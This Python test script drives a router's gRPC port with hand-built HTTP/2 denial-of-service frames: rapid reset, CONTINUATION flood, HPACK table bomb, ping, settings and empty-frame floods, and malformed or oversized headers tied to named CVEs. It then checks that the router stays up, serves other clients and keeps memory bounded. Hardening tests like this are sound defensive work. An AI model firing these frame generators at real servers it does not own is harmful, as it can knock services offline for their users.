#!/usr/bin/env python3
"""The router's gRPC port under the known HTTP/2 attacks, byte by byte over a plain socket: it must go on answering others, and its
memory must stay bounded. gRPC 1.51 is Debian 12's and old: docs/security.md says which of its published weaknesses this covers.

Each attack gets a connection of its own; while it lasts, another connection must be answered.
"""
import os
import pathlib
import socket
import struct
import sys
import time

from processes import Cluster, check

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
MOST_GROWTH = 600 << 20  # of one attack
MOST_WAIT_S = 10  # the costly one made others wait 3 s on a busy machine


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first):
    if value < (1 << bits) - 1:
        return bytes([first | value])
    out, value = bytes([first | ((1 << bits) - 1)]), value - ((1 << bits) - 1)
    while value >= 128:
        out, value = out + bytes([value % 128 | 128]), value // 128
    return out + bytes([value])


def text(value):
    return integer(len(value), 7, 0) + value


def literal(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def request(*more, path=b"/grpc.health.v1.Health/Check"):
    base = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"x"), (b"te", b"trailers"),
            (b"content-type", b"application/grpc")]
    return b"".join(literal(name, value) for name, value in [*base, *more])


class Connection:
    def __init__(self, address):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        self.send(PREFACE + frame(SETTINGS))

    def send(self, data):
        """False when the server has cut the connection or takes no more."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def read(self, seconds):
        self.socket.settimeout(seconds)
        got = b""
        try:
            while piece := self.socket.recv(65536):
                got += piece
        except OSError:
            pass
        return got

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()


def resident(pid):
    return int(pathlib.Path(f"/proc/{pid}/statm").read_text().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def answers(address):
    with Connection(address) as connection:
        connection.send(frame(HEADERS, END_HEADERS, 1, request()) + frame(DATA, END_STREAM, 1, b"\0" * 5))
        connection.socket.settimeout(MOST_WAIT_S + 5)
        got = b""
        while b"\x08\x01" not in got and b"\x08\x02" not in got:  # HealthCheckResponse: SERVING, or not yet
            piece = connection.socket.recv(65536)
            if not piece:
                return False
            got += piece
        return True


def headers_that_abort_before_1_53(connection):
    """CVE-2023-1428: a te, :scheme or grpclb_client_stats of another value, then more than 8 KB of headers."""
    yield frame(HEADERS, END_HEADERS, 1, request((b"te", b"x"), (b"filler", b"f" * 9000)))
    yield frame(HEADERS, END_HEADERS, 3, literal(b"te", b"x") + request((b"filler", b"f" * 9000)))
    yield frame(HEADERS, END_HEADERS, 5, request((b"grpclb_client_stats", b"x"), (b"filler", b"f" * 9000)))
    other = b"".join(literal(n, v) for n, v in [(b":method", b"POST"), (b":scheme", b"x"), (b":path", b"/a"), (b":authority", b"x")])
    yield frame(HEADERS, END_HEADERS, 7, other + literal(b"filler", b"f" * 9000))


def rapid_reset(connection):
    """CVE-2023-44487: streams that are opened and reset at once."""
    for first in range(1, 60_000, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, first + i, request()) + frame(RST_STREAM, 0, first + i, b"\0\0\0\x08") for i in range(0, 200, 2))


def continuation_flood(connection):
    """CVE-2024-27316 and its kin: a header that never ends."""
    yield frame(HEADERS, 0, 1, request())
    for i in range(4000):
        yield frame(CONTINUATION, 0, 1, literal(b"x%d" % i, b"y" * 8000))


def header_table_bomb(connection):
    """HPACK: one large entry in the table, then thousands of references to it in one header (and CVE-2023-33953's table sizes)."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request() + literal(b"bomb", b"b" * 3900, indexed=True))
    for stream in range(3, 203, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request() + b"\xbe" * 16000)
    for stream in range(203, 403, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, (integer(4096, 5, 0x20) + integer(0, 5, 0x20)) * 4000)


def binary_headers(connection):
    """CVE-2023-32732 and kin: -bin headers that are not base64."""
    for stream in range(1, 2001, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request((b"x-bin", b"=" * 50 + b"\x80!"), (b"grpc-trace-bin", b"\xff" * 30)))


def ping_flood(connection):
    """CVE-2019-9512."""
    for _ in range(300):
        yield frame(PING, 0, 0, b"12345678") * 300


def settings_flood(connection):
    """CVE-2019-9515."""
    for _ in range(300):
        yield frame(SETTINGS) * 300


def empty_frames(connection):
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, request())
    for _ in range(300):
        yield frame(DATA, 0, 1) * 300


def streams_without_end(connection):
    """More streams than are allowed at once, none of them finished."""
    for first in range(1, 20_001, 200):
        yield b"".join(frame(HEADERS, END_HEADERS, first + i, request()) for i in range(0, 200, 2))


def a_message_without_end(connection):
    """A length prefix over every limit, and bytes that follow it slowly."""
    yield frame(HEADERS, END_HEADERS, 1, request(path=b"/pagoda.v1.Inference/Generate"))
    yield frame(DATA, 0, 1, b"\0\xff\xff\xff\xff" + b"z" * 16000)
    for _ in range(100):
        yield frame(DATA, 0, 1, b"z" * 16000)


def garbage(connection):
    for seed in range(200):
        yield bytes((seed * 7 + i * i) % 256 for i in range(1000))


ATTACKS = [headers_that_abort_before_1_53, rapid_reset, continuation_flood, header_table_bomb, binary_headers, ping_flood, settings_flood,
           empty_frames, streams_without_end, a_message_without_end, garbage]


def main():
    with Cluster() as cluster:
        pid = cluster.router.child.pid
        check(answers(cluster.grpc), "the port answers health before any attack")
        for attack in ATTACKS:
            before, started = resident(pid), time.monotonic()
            sent = 0
            with Connection(cluster.grpc) as connection:
                for data in attack(connection):
                    if not connection.send(data) or time.monotonic() - started > 4:
                        break
                    sent += len(data)
                connection.read(0.3)
                check(cluster.router.child.poll() is None, f"{attack.__name__} killed the router: {cluster.router.output()[-2000:]}")
                asked = time.monotonic()
                check(answers(cluster.grpc), f"{attack.__name__}: nobody else is answered")
                took = time.monotonic() - asked
                check(took < MOST_WAIT_S, f"{attack.__name__}: others wait {took:.1f} s")
            growth = resident(pid) - before
            print(f"ok  {attack.__name__}: {sent} bytes taken, others answered in {took * 1000:.0f} ms, memory +{growth >> 20} MiB", flush=True)
            check(growth < MOST_GROWTH, f"{attack.__name__}: memory grew by {growth >> 20} MiB")


if __name__ == "__main__":
    sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
    main()
